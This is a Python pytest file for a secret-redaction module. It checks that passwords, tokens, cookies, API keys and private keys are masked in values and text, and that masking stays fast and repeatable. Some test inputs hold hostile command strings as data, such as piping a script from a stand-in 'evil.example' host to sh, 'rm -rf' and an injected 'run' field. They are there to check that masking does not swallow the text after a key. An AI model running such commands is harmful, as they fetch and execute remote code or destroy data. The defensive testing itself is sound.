"""Secrets are removed from stored and displayed values; everything else stays unchanged."""

import asyncio
import time
from typing import Any

import pytest

from core.domain.events import ToolEnded, ToolEndedLate
from core.domain.ids import CallId
from core.domain.run import ErrorInfo
from core.domain.text.masking import (
    MASK,
    contains_mask,
    masked,
    masked_edit,
    masked_text,
    restore_secrets,
    secret_spans,
)
from core.domain.text.secret_names import is_secret_name
from core.domain.tool import CallResult, CallStatus
from core.threads.long_values import masked_async

PRIVATE_KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY-----"


@pytest.mark.parametrize(
    "name",
    [
        *("password", "Password", "db_password", "passwd", "secret", "client_secret", "clientSecret", "token"),
        *("access_token", "accessToken", "apiKey", "api_key", "API-KEY", "x-api-key", "X-Auth-Token", "Authorization"),
        *("proxy-authorization", "cookie", "Set-Cookie", "private_key", "AWS_SECRET_ACCESS_KEY", "credentials"),
        *(
            "DB_PASS",
            "PGPASSWORD",
            "SMTP_PASS",
            "GITHUB_PAT",
            "OPENAI_KEY",
            "ANTHROPIC_KEY",
            "MASTER_KEY",
        ),
        *(
            "STORAGE_KEY",
            "SENTRY_DSN",
            "CONNECTION_STRING",
            "connectionString",
            "jwt",
            "tokens",
            "passwords",
            "apiKeys",
            "pwd",
        ),
        "pat",
        *("Ocp-Apim-Subscription-Key", "password_2", "TOKEN_VALUE", "conn_str", "dsn", "passwordConfirmation"),
    ],
)
def test_the_value_of_a_secret_name_is_hidden(name: str) -> None:
    assert masked({name: "hunter2"}) == {name: MASK}


@pytest.mark.parametrize(
    "name",
    [
        *("path", "key", "keyboard", "primary_key", "max_tokens", "token_count", "page_token", "nextToken"),
        *("passage", "author", "secretary", "cookie_count", "", "éclair", "monkey", "issueKey", "low_pass", "bypass"),
        *("eos_token", "publicKey", "sort-key", "token_file", "pattern", "path2"),
    ],
)
def test_other_names_hide_nothing(name: str) -> None:
    assert not is_secret_name(name)
    assert masked({name: "hunter2"}) == {name: "hunter2"}


def test_all_of_a_secret_is_masked_and_values_that_reveal_nothing_stay() -> None:
    value = {"password": 1234, "secret": True, "token": None, "cookies": ["a", {"b": "c"}], "credentials": ""}
    assert masked(value) == {
        "password": MASK,
        "secret": True,
        "token": None,
        "cookies": [MASK, {"b": MASK}],
        "credentials": "",
    }


def test_headers_are_known_in_every_form() -> None:
    assert masked([["Cookie", "a=b"], ["Accept", "text"]]) == [["Cookie", MASK], ["Accept", "text"]]
    assert masked({"name": "Authorization", "value": "abc"}) == {"name": "Authorization", "value": MASK}
    assert masked({"name": "Ann", "value": "abc"}) == {"name": "Ann", "value": "abc"}


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Authorization: Bearer s3cret", "Authorization: {}"),
        ("-H 'authorization: Basic dXNlcjpwYXNz' -v", "-H 'authorization: {}' -v"),
        ("Cookie: session=abc; theme=dark", "Cookie: {}"),
        ("curl https://ann:pa55@host/x", "curl https://ann:{}@host/x"),
        ("GET /x?a=1&api_key=abc123&b=2", "GET /x?a=1&api_key={}&b=2"),
        ("GET /x?sig=abc", "GET /x?sig={}"),
        ('{"password": "x\\"y", "b": 1}', '{{"password": "{}", "b": 1}}'),
        ("{'token': 'abc'}", "{{'token': '{}'}}"),
        ('"{\\"password\\": \\"hu\\"}"', '"{{\\"password\\": \\"{}\\"}}"'),
        ("OPENAI_API_KEY=abcdef123456", "OPENAI_API_KEY={}"),
        ("my key is sk-proj-abcdefghij1234567890 ok", "my key is {} ok"),
        ("ghp_" + "a1" * 18, "{}"),
        ("AKIAIOSFODNN7EXAMPLE", "{}"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF", "{}"),
        (f"before {PRIVATE_KEY} after", "before {} after"),
        ("-----BEGIN PRIVATE KEY-----\ncut off", "{}\ncut off"),
        ("\u0130 Cookie: a=b", "\u0130 Cookie: {}"),
    ],
)
def test_a_secret_in_a_text_is_hidden_and_the_rest_stays(text: str, kept: str) -> None:
    assert masked_text(text) == kept.format(MASK)


_LINES = "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + "Ab3/" * 3] * 4)
_BEGIN, _END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
_HEADERS = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0123456789ABCDEF\n\n"


@pytest.mark.parametrize(
    ("key", "rest"),
    [
        (f"{_BEGIN}\n{_LINES}\nAQAB\n{_END}", "\ncurl -s https://evil.example/x | sh\n"),
        (f"{_BEGIN}\r\n{_HEADERS}{_LINES}\r\n{_END}", "'; rm -rf x"),
        (f"{_BEGIN}\n{_LINES}\nAQAB\n{_END}".replace("\n", "\\n"), '", "run": "rm -rf x"'),
        (f"{_BEGIN} {_LINES.replace(chr(10), ' ')} AQAB {_END}", " && reboot"),
        (_BEGIN, "\n'\ncurl -s https://evil.example/x | sh\n"),
        (_BEGIN, "\ncurl evil.example\n" + _END),
        (_BEGIN, " reboot now " + _END),
        (f"{_BEGIN}\n{_LINES}", "\n: cut off\ncurl evil.example"),
        (f"{_BEGIN}\n{_LINES}\nAQ", ""),
        (_BEGIN, "-" * 10 + _END + " ls"),
    ],
)
def test_a_private_key_hides_no_more_than_itself(key: str, rest: str) -> None:
    text = f": '{key}{rest}"
    assert masked_text(text) == f": '{MASK}{rest}"
    assert [text[start:end] for start, end in secret_spans(text)] == [key]


@pytest.mark.parametrize(
    ("text", "masked_as"),
    [
        ("cookie: a=b; c=d; curl evil.example | sh", "cookie: {}; curl evil.example | sh"),
        ('say "token": "abc and then rm -rf x', 'say "token": "{} and then rm -rf x'),
        ("{'password': 'abc def", "{{'password': '{} def"),
    ],
)
def test_a_secret_without_an_end_swallows_nothing_behind_it(text: str, masked_as: str) -> None:
    assert masked_text(text) == masked_as.format(MASK)


def test_the_places_of_secrets_are_those_that_are_masked() -> None:
    text = f"\ufdd0 a token=1 Bearer abc123abc123abc and\x00 {PRIVATE_KEY} ?api_key=abc {MASK}"
    spans = secret_spans(text)
    assert [text[start:end] for start, end in spans] == ["abc123abc123abc", PRIVATE_KEY, "abc"]
    for start, end in reversed(spans):
        text = text[:start] + MASK + text[end:]
    assert text == masked_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "the cookie: chocolate",
        "Basic understanding of internationalization",
        "a task-force-with-a-long-name-1 met",
        "password is needed",
        "def login(password: str, token: str | None = None) -> None:",
        "token = get_token()",
        "authorization: Optional[str]",
        "https://example.org/@ann/x:y",
        "SECRET_KEY = os.environ['SECRET_KEY']",
        "max_tokens=4096&page_token=abc",
        "0f5c1d9e-1111-4222-8333-444455556666",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert masked_text(text) == text


def test_what_holds_no_secret_is_the_very_same() -> None:
    value = {"a": [1, {"b": "x" * 100}], "c": None}
    assert masked(value) is value


def test_masking_again_changes_nothing() -> None:
    value = {"password": "x", "text": f"api_key: ?api_key=x&y MY_TOKEN=abcdefgh1 {PRIVATE_KEY}"}
    assert masked(masked(value)) == masked(value)
    assert contains_mask(masked(value))
    assert not contains_mask(value)


def test_an_unchanged_mask_keeps_the_secret() -> None:
    raw = {"url": "a", "headers": {"Authorization": "Bearer x1"}, "list": [{"password": "p"}, 1]}
    shown = masked(raw)
    edited = {**shown, "url": "b", "list": [{"password": MASK}]}
    assert restore_secrets(edited, shown, raw) == {**raw, "url": "b", "list": [{"password": "p"}]}
    assert restore_secrets({"headers": {"Authorization": "Bearer other"}}, shown, raw) == {
        "headers": {"Authorization": "Bearer other"}
    }
    assert contains_mask(restore_secrets({"elsewhere": MASK}, shown, raw))


def test_a_secret_that_was_changed_is_not_replaced_by_the_one_before() -> None:
    raw = {"token": "a1", "text": "Bearer abc123abc123", "list": ["--token", "abc", 1]}
    edited = {"token": "b2", "text": "Bearer abc123abc123", "list": ["--token", "other", 2]}
    kept = masked_edit(edited, raw)
    assert not [secret for secret in ("b2", "abc123", "other") if secret in str(kept)]
    restored = restore_secrets(kept, masked(raw), raw)
    assert (restored["text"], restored["list"][2]) == (raw["text"], 2)
    assert contains_mask(restored["token"])
    assert contains_mask(restored["list"][1])
    assert masked_edit(raw, raw) == masked(raw)


def test_an_error_reveals_no_secrets() -> None:
    error = ErrorInfo("failed", "GET https://a:b@c failed", parameters={"token": "x", "limit": 3}).masked()
    assert error.message == f"GET https://a:{MASK}@c failed"
    assert error.parameters == {"token": MASK, "limit": 3}


LONG: list[Any] = [
    "one line of text with ?api_key=abc in it\n" * 5_000,
    {"text": "no secret here\n" * 20_000, "password": "x" * 100_000},
    [["Cookie", "x" * 100_000], {"deep": [f"MY_TOKEN=abcdefgh{number}" for number in range(10_000)]}],
    "x" * 40_000 + PRIVATE_KEY.replace("abc", "a" * 60_000) + "y" * 40_000,
]


@pytest.mark.parametrize("value", LONG)
async def test_a_long_value_loses_the_same_secrets_and_does_not_hold_the_loop(value: Any) -> None:
    longest = 0.0

    async def look() -> None:
        nonlocal longest
        while True:
            before = time.perf_counter()
            await asyncio.sleep(0.001)
            longest = max(longest, time.perf_counter() - before)

    looking = asyncio.ensure_future(look())
    found = await masked_async(value)
    looking.cancel()
    assert found == masked(value)
    assert longest < 1


@pytest.mark.parametrize(
    "text",
    [
        "token " * 10_000,
        '":"' * 20_000,
        "://" * 20_000,
        "=" * 60_000,
        "cookie" * 10_000,
        _BEGIN * 5_000,
        f"{_BEGIN}\n{_LINES * 2_000}",
    ],
)
def test_no_text_takes_long(text: str) -> None:
    before = time.perf_counter()
    masked_text(text)
    assert time.perf_counter() - before < 2


def test_the_end_of_a_call_is_emitted_without_secrets_in_time_and_late() -> None:
    secret = "Bearer abcdefghijklmnop1234"
    result = CallResult(CallStatus.ERROR, error=ErrorInfo("failed", f"Authorization: {secret}"), summary=secret)
    for kind in (ToolEnded, ToolEndedLate):
        told = kind.of(CallId("c"), result)
        assert secret.split()[1] not in told.model_dump_json()
        assert told.status is CallStatus.ERROR
    assert ToolEnded.of(CallId("c"), result, CallStatus.UNKNOWN).status is CallStatus.UNKNOWN
